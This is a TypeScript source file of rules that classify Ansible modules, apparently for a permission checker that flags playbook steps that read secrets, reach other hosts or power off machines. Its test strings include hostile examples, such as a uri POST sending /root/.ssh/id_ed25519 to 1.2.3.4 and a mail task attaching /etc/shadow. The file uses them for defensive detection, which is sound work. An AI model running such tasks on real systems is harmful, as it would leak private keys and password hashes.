import { asList, asText, type Fields } from '../../read-yaml.ts';
import { isPlainPage } from '../../shell/rules/network-reads.ts';
import { ask, deny } from '../../shell/verdict.ts';
import type { Deeds, ModuleRule } from '../module-rule.ts';

/** Names of variables that hold keys, or everything there is. */
const secretName =
  /passw(or)?d|passphrase|secret|token|api_?key|private_?key|credential|\bvault_|become_pass|\bhostvars\b|\bvars\b|ansible_env|environ/i;

/** Modules that look, compute or wait. */
export const lookRules: readonly ModuleRule[] = [
  {
    name: 'module.looks',
    modules: [
      'ping',
      'win_ping',
      'setup',
      'gather_facts',
      'assert',
      'fail',
      'pause',
      'wait_for_connection',
      'service_facts',
      'package_facts',
      'mount_facts',
      'listen_ports_facts',
      'docker_host_info',
      'docker_container_info',
      'docker_image_info',
      'docker_network_info',
      'docker_volume_info',
      'podman_container_info',
      'k8s_cluster_info',
      'helm_info',
      'zfs_facts',
      'zpool_facts',
      'proxmox_vm_info',
      'proxmox_node_info',
      'proxmox_storage_info',
      'validate_argument_spec',
      'group_by',
      'systemd_info',
      'pip_package_info',
      'git_info',
      'interfaces_facts',
      'win_disk_facts',
      'tempfile_info',
      'ping6',
      'selinux_info',
      'python_requirements_info',
      'win_product_facts',
      'lvm_info',
    ],
    says: 'only looks, computes or waits',
    looks: true,
    // Facts in a folder of one's own are programs; another host or key file means asking somebody else.
    does: (args) =>
      ['fact_path', 'docker_host', 'host', 'api_host', 'kubeconfig', 'client_key'].some(
        (key) => args[key] !== undefined,
      )
        ? { findings: [ask('module', 'It looks somewhere else than modules usually do.')] }
        : {},
    match: [
      'ping:',
      'setup:',
      'assert: {that: [x is defined]}',
      'pause: {seconds: 5}',
      'service_facts:',
      'community.docker.docker_container_info: {name: plex}',
    ],
    notMatch: ['setup: {fact_path: /tmp/x}', 'evil.things.ping:', 'package: {name: x}'],
  },
  {
    name: 'module.says',
    modules: ['debug', 'set_fact', 'set_stats', 'say'],
    says: 'only says or notes something',
    looks: true,
    does: (args) => {
      const shown = [asText(args['var']), ...(asText(args['_written']).match(/\{\{.*?\}\}/g) ?? [])].join(
        ' ',
      );
      return secretName.test(shown)
        ? { findings: [deny('secrets', 'It prints what may hold a password or token.')] }
        : {};
    },
    match: [
      'debug: msg="do not reboot"',
      'set_fact: {reboot_window: sunday}',
      'debug: {var: ansible_distribution}',
    ],
    notMatch: [
      'debug: {var: ansible_password}',
      'debug: {msg: "{{ vault_token }}"}',
      "set_fact: {a: \"{{ query('pipe', 'reboot') }}\"}",
      'debug: {msg: "{{ hostvars }}"}',
    ],
  },
  {
    name: 'module.meta',
    modules: ['meta'],
    says: 'steers the run of the playbook',
    looks: true,
    does: (args) =>
      /^(flush_handlers|noop|end_(host|play|batch|role)|clear_facts|clear_host_errors|reset_connection)$/.test(
        asText(args['_raw'] ?? args['free_form']),
      )
        ? {}
        : {
            findings: [
              ask('module', 'It steers the run of the playbook in a way that is not known to be harmless.'),
            ],
          },
    match: ['meta: flush_handlers', 'meta: end_play'],
    notMatch: ['meta: refresh_inventory'],
  },
  {
    name: 'module.waits',
    modules: ['wait_for'],
    says: 'only waits',
    looks: true,
    does: (args) => ({ calls: args['path'] === undefined ? [] : [['stat', asText(args['path'])]] }),
    match: ['wait_for: {port: 8096, timeout: 60}', 'wait_for: {path: /opt/app/ready}'],
    notMatch: ['wait_for: {path: "{{ x }}"}'],
  },
  {
    name: 'module.entries',
    modules: ['getent'],
    says: 'only looks up a name',
    looks: true,
    does: (args) => ({
      calls: [['getent', asText(args['database']), asText(args['key'])].filter((word) => word !== '')],
    }),
    match: ['getent: {database: passwd, key: root}'],
    notMatch: ['getent: {database: shadow}'],
  },
  {
    name: 'module.objects',
    modules: ['k8s_info', 'k8s_log', 'kubernetes_info'],
    says: 'only looks at the cluster',
    looks: true,
    reachesOut: true,
    does: (args) => ({
      calls: [['kubectl', 'get', asText(args['kind']) || 'pods']],
      findings:
        args['host'] === undefined && args['kubeconfig'] === undefined
          ? []
          : [ask('module', 'It looks at another cluster than the usual one.')],
    }),
    match: ['kubernetes.core.k8s_info: {kind: Pod, namespace: media}'],
    notMatch: ['kubernetes.core.k8s_info: {kind: Secret, namespace: media}'],
  },
  {
    name: 'module.addresses',
    modules: ['uri', 'win_uri'],
    says: 'asks an address',
    looks: true,
    reachesOut: true,
    does: askAddress,
    match: [
      'uri: {url: "http://10.0.0.5:8096/health"}',
      'uri: {url: "http://10.0.0.5:3001/", method: GET, status_code: 200}',
    ],
    notMatch: [
      'uri: {url: "http://10.0.0.5/api/reboot", method: POST}',
      'uri: {url: "http://1.2.3.4/", method: POST, body: "{{ lookup(\'file\', \'/root/.ssh/id_ed25519\') }}"}',
      'uri: {url: "http://x/y", dest: /etc/cron.d/x}',
      'uri: {url: "http://x/", src: /etc/shadow}',
    ],
  },
  {
    name: 'module.tells',
    modules: [
      'mail',
      'slack',
      'telegram',
      'discord',
      'matrix',
      'ntfy',
      'pushover',
      'syslogger',
      'irc',
      'mqtt',
      'nexmo',
      'rocketchat',
      'snmp_facts',
      'wakeonlan',
    ],
    says: 'tells somebody or something else',
    reachesOut: true,
    does: (args) => ({ calls: asList(args['attach']).map((path) => ['cat', asText(path)]) }),
    match: ['mail: {to: a@b, subject: x, attach: [/etc/shadow]}'],
    notMatch: ['mail: {to: a@b, subject: x, body: y}'],
  },
];

function askAddress(args: Fields): Deeds {
  const method = asText(args['method'] ?? 'GET').toUpperCase();
  const url = asText(args['url']);
  const path = asText(args['dest']);
  const source = asText(args['src']);
  const plain =
    !/\{\{|\{%/.test(asText(args['_written'])) &&
    ['GET', 'HEAD'].includes(method) &&
    args['body'] === undefined &&
    isPlainPage(url) &&
    !url.includes('\0');
  return {
    calls: source === '' ? [] : [['cat', source]],
    files: path === '' ? [] : [{ path, content: undefined, mode: '0644' }],
    findings: plain
      ? []
      : [...isOwnPower(url, method), ask('http', 'Asking an address in this way may do more than answer.')],
  };
}

/** A management board or Proxmox takes a power command over HTTP as well. */
function isOwnPower(url: string, method: string): ReturnType<typeof deny>[] {
  const power =
    /\/(nodes\/[^/]+\/status|redfish\/v1\/.*(Reset|Power)|.*\b(reboot|poweroff|shutdown|halt)\b)/i.test(url);
  return power && method !== 'GET' && method !== 'HEAD'
    ? [deny('host-power', 'It asks an address that stops or restarts a machine.')]
    : [];
}
